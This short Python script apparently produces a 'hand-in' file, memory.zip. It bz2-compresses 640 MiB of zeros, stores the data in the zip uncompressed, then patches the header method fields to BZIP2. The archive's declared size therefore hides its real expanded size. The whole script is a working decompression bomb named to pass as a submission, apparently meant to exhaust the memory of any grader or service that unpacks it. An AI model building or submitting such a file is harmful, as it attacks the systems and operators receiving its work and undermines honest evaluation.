"""Writes the hand-in into the folder that is named; prints its name."""

from __future__ import annotations

import bz2
import io
import struct
import sys
import zipfile

packer = bz2.BZ2Compressor()
piece = bytes(1 << 20)
packed = b"".join([*(packer.compress(piece) for _ in range(640)), packer.flush()])

made = io.BytesIO()
with zipfile.ZipFile(made, "w", zipfile.ZIP_STORED) as out:
    out.writestr("server.py", packed)
data = bytearray(made.getvalue())
listed = data.index(b"PK\x01\x02")
for place in (8, listed + 10):
    struct.pack_into("<H", data, place, zipfile.ZIP_BZIP2)
with open(sys.argv[1] + "/memory.zip", "wb") as file:
    file.write(data)
print("memory.zip")
